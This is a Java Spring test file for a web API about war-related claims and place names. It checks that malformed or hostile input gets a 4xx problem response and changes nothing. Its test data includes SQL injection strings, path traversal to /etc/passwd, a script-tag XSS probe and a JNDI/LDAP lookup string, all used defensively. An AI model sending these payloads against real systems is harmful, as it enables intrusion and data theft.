package org.frontline.web;

import static org.assertj.core.api.Assertions.assertThat;
import static org.springframework.test.web.servlet.request.MockMvcRequestBuilders.get;
import static org.springframework.test.web.servlet.request.MockMvcRequestBuilders.post;

import java.nio.charset.StandardCharsets;
import java.nio.file.Files;
import java.util.List;
import org.frontline.store.FrontlineStore;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.CsvSource;
import org.junit.jupiter.api.Test;
import org.springframework.beans.factory.annotation.Autowired;
import org.springframework.boot.test.context.SpringBootTest;
import org.springframework.boot.webmvc.test.autoconfigure.AutoConfigureMockMvc;
import org.springframework.http.MediaType;
import org.springframework.test.context.DynamicPropertyRegistry;
import org.springframework.test.context.DynamicPropertySource;
import org.springframework.test.web.servlet.MockMvc;
import org.springframework.test.web.servlet.MvcResult;
import tools.jackson.databind.JsonNode;

/** Bad input gets a precise problem+json 4xx naming the parameter, never a 500. */
@SpringBootTest
@AutoConfigureMockMvc
class BadInputApiTest {
    @DynamicPropertySource
    static void props(DynamicPropertyRegistry r) throws Exception {
        String dir = Files.createTempDirectory("frontline-bad-input").toString();
        r.add("frontline.data-dir", () -> dir);
    }

    @Autowired
    MockMvc mvc;
    @Autowired
    FrontlineStore store;

    @ParameterizedTest
    @CsvSource(delimiter = '|', value = {
            "/api/claims?date=yesterday|date",
            "/api/claims?from=2022-13-01|from",
            "/api/claims?from=2022-09-09&to=2022-02-24|from",
            "/api/claims?bbox=1,2,3|bbox",
            "/api/claims?bbox=30,50,abc,51|bbox",
            "/api/claims?bbox=40,50,30,51|bbox",
            "/api/claims?type=liberated|type",
            "/api/claims?actor=XX|actor",
            "/api/claims?f=docx|f",
            "/api/mentions|article",
            "/api/gazetteer|q",
            "/api/gazetteer?q=Kyiv&limit=0|limit",
            "/api/claims?date=2022-02-25'%20OR%201=1--|date",
            "/api/claims?date=%2B999999999-12-31|date",
            "/api/claims?from=-0001-01-01|from",
            "/api/claims?to=2022-02-30|to",
            "/api/claims?bbox=NaN,49,38,50|bbox",
            "/api/claims?bbox=Infinity,49,38,50|bbox",
            "/api/claims?bbox=36,49,38,1e999|bbox",
            "/api/claims?bbox=-181,49,38,50|bbox",
            "/api/claims?bbox=36,49,38,91|bbox",
            "/api/claims?bbox=36;49;38;50|bbox",
            "/api/claims?type=CAPTURED'--|type",
            "/api/claims?type=liberation|type",
            "/api/claims?actor=NATO|actor",
            "/api/claims?actor=RU'%20OR%20'1'='1|actor",
            "/api/gazetteer?q=Kyiv&limit=abc|limit",
            "/api/gazetteer?q=Kyiv&limit=-1|limit",
            "/api/gazetteer?q=Kyiv&limit=99999999999|limit",
            "/api/gazetteer?q=Kyiv&limit=501|limit",
            "/api/places?f=../../etc/passwd|f"})
    void answersBadParametersWithA400NamingTheParameter(String url, String parameter) throws Exception {
        MvcResult r = mvc.perform(get(url)).andReturn();
        assertThat(r.getResponse().getStatus()).as(url).isEqualTo(400);
        assertThat(r.getResponse().getContentType()).startsWith("application/problem+json");
        JsonNode p = ApiTestSupport.parse(r.getResponse().getContentAsString());
        assertThat(p.path("parameter").asString()).isEqualTo(parameter);
        assertThat(p.path("detail").asString()).startsWith(parameter + ":");
    }

    @Test
    void unknownArticleIs404() throws Exception {
        MvcResult r = mvc.perform(get("/api/mentions?article=no-such-article")).andReturn();
        assertThat(r.getResponse().getStatus()).isEqualTo(404);
        assertThat(r.getResponse().getContentType()).startsWith("application/problem+json");
    }

    @Test
    void malformedJsonIs400() throws Exception {
        MvcResult r = mvc.perform(post("/api/parse").contentType(MediaType.APPLICATION_JSON).content("{\"text\": ")).andReturn();
        assertThat(r.getResponse().getStatus()).isEqualTo(400);
        assertThat(r.getResponse().getContentType()).startsWith("application/problem+json");
    }

    @Test
    void wrongContentTypeIs415() throws Exception {
        MvcResult r = mvc.perform(post("/api/articles").contentType(MediaType.TEXT_PLAIN).content("Kyiv")).andReturn();
        assertThat(r.getResponse().getStatus()).isEqualTo(415);
    }

    @ParameterizedTest
    @CsvSource(delimiter = '|', value = {
            "{\"published\":\"2022-02-25\"}|text",
            "{\"text\":\"   \",\"published\":\"2022-02-25\"}|text",
            "{\"text\":\"Kyiv was shelled.\"}|published",
            "{\"text\":\"Kyiv was shelled.\",\"published\":\"25/02/2022\"}|published",
            "{\"text\":\"Kyiv was shelled.\",\"published\":\"2999-01-01\"}|published",
            "{\"text\":\"Kyiv was shelled.\",\"published\":\"2022-02-25\",\"id\":\"../../etc/passwd\"}|id",
            "[1,2]|body",
            "{\"text\": |body",
            "{\"text\":\"Kyiv\",\"published\":\"2022-02-25\"}}|body",
            "'just a string'|body",
            "{\"text\":42,\"published\":\"2022-02-25\"}|text",
            "{\"text\":\"Kyiv was shelled.\",\"published\":20220225}|published",
            "{\"text\":\"Kyiv was shelled.\",\"published\":null}|published",
            "{\"text\":\"Kyiv was shelled.\",\"published\":\"2022-02-30\"}|published",
            "{\"text\":\"Kyiv was shelled.\",\"published\":\"\"}|published",
            "{\"text\":\"Kyiv\\u0000was shelled.\",\"published\":\"2022-02-25\"}|text",
            "{\"text\":\"Kyiv was shelled.\",\"published\":\"2022-02-25\",\"title\":[\"a\"]}|title",
            "{\"text\":\"Kyiv was shelled.\",\"published\":\"2022-02-25\",\"id\":\"x'; DROP TABLE article; --\"}|id",
            "{\"text\":\"Kyiv was shelled.\",\"published\":\"2022-02-25\",\"id\":\"..%2f..%2fetc\"}|id"})
    void rejectsUnusableArticlesNamingTheField(String body, String field) throws Exception {
        Before before = before();
        MvcResult r = mvc.perform(post("/api/articles").contentType(MediaType.APPLICATION_JSON).content(body)).andReturn();
        assertThat(r.getResponse().getStatus()).as(body).isEqualTo(400);
        assertThat(r.getResponse().getContentType()).startsWith("application/problem+json");
        assertThat(ApiTestSupport.parse(r.getResponse().getContentAsString()).path("parameter").asString()).isEqualTo(field);
        before.assertNothingChanged();
    }

    @Test
    void malformedJsonNamesWhereItBroke() throws Exception {
        MvcResult r = mvc.perform(post("/api/articles").contentType(MediaType.APPLICATION_JSON)
                .content("{\"text\": \"Kyiv\",\n \"published\" 2022}")).andReturn();
        JsonNode p = problem(r, 400);
        assertThat(p.path("parameter").asString()).isEqualTo("body");
        assertThat(p.path("detail").asString()).startsWith("body: not a readable JSON document (line 2, column");
    }

    @Test
    void anEmptyBodyIs400() throws Exception {
        Before before = before();
        JsonNode p = problem(mvc.perform(post("/api/articles").contentType(MediaType.APPLICATION_JSON)).andReturn(), 400);
        assertThat(p.path("detail").asString()).isEqualTo("body: required: a JSON object (the body is empty)");
        before.assertNothingChanged();
    }

    @Test
    void bytesThatAreNotUtf8Are400() throws Exception {
        Before before = before();
        byte[] latin1 = "{\"text\":\"Kyiv \u00e9t\u00e9 shelled\",\"published\":\"2022-02-25\"}".getBytes(StandardCharsets.ISO_8859_1);
        JsonNode p = problem(mvc.perform(post("/api/articles").contentType(MediaType.APPLICATION_JSON).content(latin1)).andReturn(), 400);
        assertThat(p.path("detail").asString()).contains("Invalid UTF-8");
        before.assertNothingChanged();
    }

    @Test
    void binaryGarbageIs400AndBinaryContentTypeIs415() throws Exception {
        Before before = before();
        byte[] garbage = new byte[4096];
        new java.util.Random(42).nextBytes(garbage);
        problem(mvc.perform(post("/api/articles").contentType(MediaType.APPLICATION_JSON).content(garbage)).andReturn(), 400);
        problem(mvc.perform(post("/api/articles").contentType(MediaType.APPLICATION_OCTET_STREAM).content(garbage)).andReturn(), 415);
        problem(mvc.perform(post("/api/articles").contentType(MediaType.APPLICATION_FORM_URLENCODED).content("text=Kyiv")).andReturn(), 415);
        problem(mvc.perform(post("/api/articles")).andReturn(), 415);
        before.assertNothingChanged();
    }

    @Test
    void aFiftyMegabyteArticleIs413WithTheLimit() throws Exception {
        Before before = before();
        byte[] body = ("{\"published\":\"2022-02-25\",\"text\":\"" + "x".repeat(50 * 1024 * 1024) + "\"}").getBytes(StandardCharsets.UTF_8);
        JsonNode p = problem(mvc.perform(post("/api/articles").contentType(MediaType.APPLICATION_JSON).content(body)).andReturn(), 413);
        assertThat(p.path("limitBytes").asLong()).isEqualTo(8L * 1024 * 1024);
        assertThat(p.path("detail").asString()).contains("8388608 bytes");
        before.assertNothingChanged();
    }

    @Test
    void aTextOverTheCharacterLimitButUnderTheByteLimitIs400Text() throws Exception {
        Before before = before();
        String body = "{\"published\":\"2022-02-25\",\"text\":\"" + "Kyiv ".repeat(200_001) + "\"}";
        JsonNode p = problem(mvc.perform(post("/api/articles").contentType(MediaType.APPLICATION_JSON).content(body)).andReturn(), 400);
        assertThat(p.path("parameter").asString()).isEqualTo("text");
        before.assertNothingChanged();
    }

    @ParameterizedTest
    @CsvSource(delimiter = '|', value = {"title|2001", "source|501", "url|2001"})
    void aFieldLongerThanTheStoreKeepsIs400NamingIt(String field, int length) throws Exception {
        Before before = before();
        String body = "{\"published\":\"2022-02-25\",\"text\":\"Kyiv was shelled " + field + ".\",\"" + field + "\":\"" + "y".repeat(length) + "\"}";
        JsonNode p = problem(mvc.perform(post("/api/articles").contentType(MediaType.APPLICATION_JSON).content(body)).andReturn(), 400);
        assertThat(p.path("parameter").asString()).isEqualTo(field);
        assertThat(p.path("detail").asString()).startsWith(field + ": longer than");
        before.assertNothingChanged();
    }

    static final List<String> HOSTILE = List.of("' OR '1'='1", "1; DROP TABLE claim; --", "<script>alert(1)</script>",
            "${jndi:ldap://example.org/a}", "../../../../etc/passwd", "%00", "\u0000", "Київ' --", "x".repeat(5000));

    /** Every query parameter of every GET endpoint, with hostile values: a 4xx problem or a normal answer, never 500. */
    @ParameterizedTest
    @CsvSource(delimiter = '|', value = {"/api/claims|date", "/api/claims|from", "/api/claims|to", "/api/claims|bbox",
            "/api/claims|type", "/api/claims|actor", "/api/claims|article", "/api/claims|f", "/api/mentions|article",
            "/api/mentions|f", "/api/places|f", "/api/gazetteer|q", "/api/gazetteer|limit", "/api/gazetteer|f",
            "/api/articles|id", "/api/dates|date"})
    void injectionLookingValuesAreJustValues(String path, String parameter) throws Exception {
        Before before = before();
        for (String value : HOSTILE) {
            MvcResult r = mvc.perform(get(path).param(parameter, value).param("q", "Kyiv")).andReturn();
            int status = r.getResponse().getStatus();
            assertThat(status).as(path + "?" + parameter + "=" + value).isIn(200, 400, 404);
            if (status != 200) {
                assertThat(r.getResponse().getContentType()).startsWith("application/problem+json");
                assertThat(ApiTestSupport.parse(r.getResponse().getContentAsString()).path("status").asInt()).isEqualTo(status);
            }
        }
        before.assertNothingChanged();
    }

    @Test
    void unknownArticleIdsAre404WhateverTheyLookLike() throws Exception {
        for (String id : HOSTILE) {
            problem(mvc.perform(get("/api/mentions").param("article", id)).andReturn(), 404);
        }
    }

    @Test
    void unknownPathsAndMethodsAreProblems() throws Exception {
        problem(mvc.perform(get("/api/nothing-here")).andReturn(), 404);
        problem(mvc.perform(get("/api/boundaries/..")).andReturn(), 404);
        problem(mvc.perform(get("/api/boundaries/etc")).andReturn(), 404);
        problem(mvc.perform(org.springframework.test.web.servlet.request.MockMvcRequestBuilders.delete("/api/claims")).andReturn(), 405);
    }

    private JsonNode problem(MvcResult r, int status) throws Exception {
        assertThat(r.getResponse().getStatus()).isEqualTo(status);
        assertThat(r.getResponse().getContentType()).startsWith("application/problem+json");
        JsonNode p = ApiTestSupport.parse(r.getResponse().getContentAsString());
        assertThat(p.path("status").asInt()).isEqualTo(status);
        return p;
    }

    private Before before() {
        return new Before(store.count("article"), store.count("claim"), store.version());
    }

    /** Nothing stored, nothing changed: the counts and the data version are as they were. */
    private final class Before {
        final int articles;
        final int claims;
        final long version;

        Before(int articles, int claims, long version) {
            this.articles = articles;
            this.claims = claims;
            this.version = version;
        }

        void assertNothingChanged() {
            assertThat(store.count("article")).isEqualTo(articles);
            assertThat(store.count("claim")).isEqualTo(claims);
            assertThat(store.version()).isEqualTo(version);
        }
    }
}
